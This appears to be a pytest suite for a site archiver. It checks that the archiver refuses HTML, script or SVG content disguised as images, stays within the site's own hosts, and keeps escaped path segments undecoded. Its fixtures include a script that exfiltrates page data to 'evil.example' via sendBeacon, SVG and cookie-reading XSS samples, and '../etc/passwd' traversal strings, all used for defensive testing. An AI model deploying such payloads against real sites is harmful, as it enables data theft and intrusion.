"""A hostile site on 127.0.0.1: its "images" that are pages or scripts are never saved, it cannot make the
crawler request anything outside its own hosts, and its escaped slashes are never decoded into new paths."""
from __future__ import annotations

import hashlib
import re

import pytest
from hostile import ROBOTS_ALLOW_ALL, answer, post_page, routed_site, sitemap_index, urlset
from sites import PNG

from archive.crawl import crawl_site
from archive.media import download_media
from archive.mediatypes import media_dir_for, sniff_media
from archive.store import open_archive
from scraper.discover import discover_posts
from scraper.errors import FetchError
from scraper.scope import Scope, is_media_host
from scraper.urls import normalize_url

GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00" \
      b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
HTML_IMAGE = b"<!doctype html><script>fetch('/api/posts').then(r => r.text()).then(t => navigator.sendBeacon(" \
             b"'https://evil.example/', t))</script>"
SVG_IMAGE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="4"/></svg>'


# --- Media: kept only when the bytes are media, named for what they are -------------------------------

MEDIA_SAMPLES = {
    ".jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
    ".png": PNG,
    ".gif": GIF,
    ".webp": b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00\x30\x01\x00\x9d\x01\x2a",
    ".avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf\x00\x00\x00\x00",
    ".bmp": b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00\x01\x00\x00\x00\x01\x00",
    ".ico": b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00\x68\x04\x00\x00\x16\x00",
    ".tif": b"II*\x00\x08\x00\x00\x00\x0e\x00\x00\x01\x03\x00\x01\x00",
    ".mp4": b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41",
    ".webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm"
             b"\x42\x87\x81\x02\x42\x85\x81\x02",
    ".ogg": b"OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x8f\x2b\x00\x00\x00\x00",
    ".mov": b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  \x00\x00\x00\x08wide",
    ".mp3": b"ID3\x04\x00\x00\x00\x00\x00\x23TSSE\x00\x00\x00\x0f\x00\x00\x03Lavf",
    ".wav": b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00",
    ".m4a": b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00M4A mp42isom\x00\x00\x00\x00",
    ".pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
}


@pytest.mark.parametrize("extension, data", MEDIA_SAMPLES.items(), ids=list(MEDIA_SAMPLES))
def test_sniff_media_names_each_media_kind_by_its_bytes(extension, data):
    assert sniff_media(data) == extension


@pytest.mark.parametrize("data", [
    HTML_IMAGE, SVG_IMAGE, b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    b"alert(document.cookie)", b"BMI and acupuncture: a short note", b"", b"\x00" * 64,
    b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",  # HEIC: no browser shows it, so it is not "media" here
], ids=["html", "svg", "xml-svg", "script", "text-starting-BM", "empty", "zeros", "heic"])
def test_sniff_media_refuses_pages_scripts_svg_and_unknown_bytes(data):
    assert sniff_media(data) is None


def media_site(origin_images: str) -> dict:
    return {"/robots.txt": ROBOTS_ALLOW_ALL, "/post/one": post_page("One", origin_images)}


def crawl_with_media(server, fetcher, db_path, *urls: str):
    server.routes["/sitemap.xml"] = urlset(*(server.origin + url for url in urls))
    db = open_archive(db_path)
    crawl_site(db, discover_posts(fetcher, server.origin), fetcher)
    return db, download_media(db, fetcher, media_dir_for(db_path))


def test_media_is_kept_only_when_its_bytes_are_media_and_named_for_what_they_are(fetcher, db_path):
    images = ('<img src="/media/evil.png" alt="a"><img src="/media/evil.svg" alt="b">'
              '<img src="/media/photo.jpg" alt="c"><img src="/media/shot" alt="d">')
    with routed_site(media_site(images)) as server:
        server.routes.update({
            "/media/evil.png": answer(HTML_IMAGE, "image/png"),  # a page that claims to be an image
            "/media/evil.svg": answer(SVG_IMAGE, "image/svg+xml"),
            "/media/photo.jpg": answer(PNG, "image/jpeg"),  # a PNG behind a .jpg URL and a JPEG type
            "/media/shot": answer(GIF, "text/html"),  # a GIF the server calls a page
        })
        db, summary = crawl_with_media(server, fetcher, db_path, "/post/one")
    saved = sorted(p.name for p in media_dir_for(db_path).rglob("*") if p.is_file())
    assert saved == sorted([hashlib.sha256(PNG).hexdigest() + ".png", hashlib.sha256(GIF).hexdigest() + ".gif"])
    assert sorted(src.rsplit("/", 1)[1] for src, _ in summary.refused) == ["evil.png", "evil.svg"]
    kept = {r["src"].rsplit("/", 1)[1]: r["local_path"] for r in db.query("select src, local_path from images")}
    assert kept["evil.png"] is None and kept["evil.svg"] is None
    assert kept["photo.jpg"].endswith(".png") and kept["shot"].endswith(".gif")


def test_a_copy_saved_before_sniffing_is_dropped_and_checked_again(fetcher, db_path):
    with routed_site(media_site('<img src="/media/evil.png" alt="a">')) as server:
        server.routes["/media/evil.png"] = answer(HTML_IMAGE, "image/png")
        db, _ = crawl_with_media(server, fetcher, db_path, "/post/one")
        old = media_dir_for(db_path) / "ab" / "abcdef.html"  # what an older version saved under the URL's claim
        old.parent.mkdir(parents=True)
        old.write_bytes(HTML_IMAGE)
        db.execute("update images set local_path = ?, sha256 = 'abcdef'", [old.relative_to(db_path.parent).as_posix()])
        again = download_media(db, fetcher, media_dir_for(db_path))
    assert not old.exists()
    assert again.reused == 0 and len(again.refused) == 1 and not again.failed
    assert db.execute("select local_path from images").fetchone()[0] is None


# --- Leaving the site ------------------------------------------------------------------------------------

@pytest.fixture
def elsewhere():
    """Another server on 127.0.0.1 (another host for the crawler): it must never be asked anything."""
    with routed_site({"/secret.png": answer(PNG, "image/png"), "/robots.txt": ROBOTS_ALLOW_ALL}) as server:
        server.routes["/sitemap.xml"] = urlset(server.origin + "/post/planted")
        server.routes["/feed.xml"] = answer(f"<rss><channel><item><link>{server.origin}/post/planted</link></item>"
                                            "</channel></rss>", "application/rss+xml")
        yield server


def test_media_redirect_to_another_host_is_not_followed(fetcher, db_path, elsewhere):
    with routed_site(media_site('<img src="/media/jump.png" alt="a">')) as server:
        server.routes["/media/jump.png"] = lambda handler: handler.redirect(elsewhere.origin + "/secret.png")
        _, summary = crawl_with_media(server, fetcher, db_path, "/post/one")
    assert elsewhere.requests == []
    assert len(summary.failed) == 1 and "redirects off the site" in summary.failed[0][1]
    assert not media_dir_for(db_path).exists() or not any(media_dir_for(db_path).rglob("*.png"))


def test_sitemaps_and_feeds_on_other_hosts_are_not_fetched(fetcher, elsewhere):
    with routed_site() as server:
        server.routes.update({
            "/robots.txt": answer(f"User-agent: *\nAllow: /\nSitemap: {elsewhere.origin}/sitemap.xml\n"
                                  f"Sitemap: {server.origin}/sitemap_index.xml\n", "text/plain"),
            "/sitemap_index.xml": sitemap_index(f"{elsewhere.origin}/sitemap.xml", f"{server.origin}/posts.xml"),
            "/posts.xml": urlset(server.origin + "/post/one"),
            "/blog-feed.xml": lambda handler: handler.redirect(elsewhere.origin + "/feed.xml"),
            "/post/one": post_page("One"),
        })
        found = discover_posts(fetcher, server.origin)
    assert elsewhere.requests == []
    assert [item.url for item in found.urls] == [server.origin + "/post/one"]


def test_listing_pages_never_lead_to_another_host(fetcher, elsewhere):
    with routed_site() as server:
        server.routes.update({
            "/robots.txt": ROBOTS_ALLOW_ALL,
            "/blog": answer(f'<a href="/post/one">One</a><a rel="next" href="{elsewhere.origin}/blog?page=2">next</a>'),
            "/post/one": post_page("One"),
        })
        found = discover_posts(fetcher, server.origin)
    assert elsewhere.requests == []
    assert [item.url for item in found.urls] == [server.origin + "/post/one"]


def test_a_url_outside_the_scope_is_refused_without_a_request(fetcher, elsewhere):
    with pytest.raises(FetchError, match="outside the site"):
        fetcher.fetch(elsewhere.origin + "/secret.png", scope="https://www.example-clinic.com")
    assert elsewhere.requests == []


@pytest.mark.parametrize("url, media, allowed", [
    ("https://example-clinic.com/post/a", False, True),  # with or without www., either scheme
    ("http://www.example-clinic.com/media/a.jpg", False, True),
    ("https://static.wixstatic.com/media/a.jpg", True, True),
    ("https://video.wixstatic.com/video/a/file", True, True),
    ("https://static.wixstatic.com/media/a.jpg", False, False),  # media hosts for media only
    ("https://wixstatic.com.evil.example/a.jpg", True, False),
    ("https://evil-wixstatic.com/a.jpg", True, False),
    ("https://example-clinic.com.evil.example/post/a", True, False),
    ("ftp://www.example-clinic.com/a.jpg", True, False),
])
def test_scope_is_the_sites_hosts_plus_media_hosts_for_media_only(url, media, allowed):
    assert Scope("https://www.example-clinic.com/", media=media).allows(url) is allowed


def test_one_list_of_media_hosts_serves_the_fetcher_and_the_exporters():
    from archive.export.common import is_old_host

    assert is_media_host("https://static.wixstatic.com/media/a.jpg")
    assert is_old_host("https://static.wixstatic.com/media/a.jpg", "www.example-clinic.com")
    assert is_old_host("https://images.squarespace-cdn.com/a.jpg", "www.example-clinic.com")
    assert not is_old_host("https://cdn.elsewhere.example/a.jpg", "www.example-clinic.com")


# --- URLs are requested as listed --------------------------------------------------------------------------

LISTED = ["/post/a%2Fb", "/post/%2e%2e%2f%2e%2e%2fsecret", "/post/%2e%2e/%2e%2e/secret", "/post/caf%C3%A9"]


def escapes_upper(path: str) -> str:
    """RFC 3986 makes '%2f' and '%2F' the same (urllib3 sends the upper-case form); nothing else may change."""
    return re.sub(r"%[0-9a-f]{2}", lambda match: match.group().upper(), path)


def test_escaped_slashes_and_dots_are_requested_exactly_as_listed(fetcher, db_path):
    with routed_site({"/robots.txt": ROBOTS_ALLOW_ALL}) as server:
        server.routes["/sitemap.xml"] = urlset(*(server.origin + path for path in LISTED))
        for path in LISTED:
            server.routes[escapes_upper(path)] = post_page("Listed")
        summary = crawl_site(open_archive(db_path), discover_posts(fetcher, server.origin), fetcher)
    asked = [path for path in server.requests if path.startswith("/post/") or "secret" in path]
    assert sorted(asked) == sorted(escapes_upper(path) for path in LISTED)
    assert len(summary.new) == len(LISTED) and not summary.failed


def test_retried_urls_are_requested_as_listed_too(fetcher, db_path):
    path = "/post/%2e%2e%2f%2e%2e%2fsecret"
    with routed_site({"/robots.txt": ROBOTS_ALLOW_ALL}) as server:
        server.routes["/sitemap.xml"] = urlset(server.origin + path)
        server.routes[escapes_upper(path)] = answer("busy", "text/plain", status=500)
        db = open_archive(db_path)
        crawl_site(db, discover_posts(fetcher, server.origin), fetcher)
        server.routes["/sitemap.xml"] = urlset(server.origin + "/post/other")  # only the failure log has it now
        server.routes["/post/other"] = post_page("Other")
        server.requests.clear()
        crawl_site(db, discover_posts(fetcher, server.origin), fetcher)
    asked = [p for p in server.requests if (p.startswith("/post/") or "secret" in p) and p != "/post/other"]
    assert asked and set(asked) == {escapes_upper(path)}


@pytest.mark.parametrize("url, normal", [
    ("http://h/post/a%2fb", "http://h/post/a%2Fb"),
    ("http://h/post/%2e%2e%2fetc%2fpasswd", "http://h/post/%2E%2E%2Fetc%2Fpasswd"),
    ("http://h/post/migra%c3%b1a/", "http://h/post/migra%C3%B1a"),  # still one spelling for the rest
    ("http://h/post/migraña", "http://h/post/migra%C3%B1a"),
])
def test_normalized_urls_keep_escaped_slashes_and_dots(url, normal):
    assert normalize_url(url) == normal
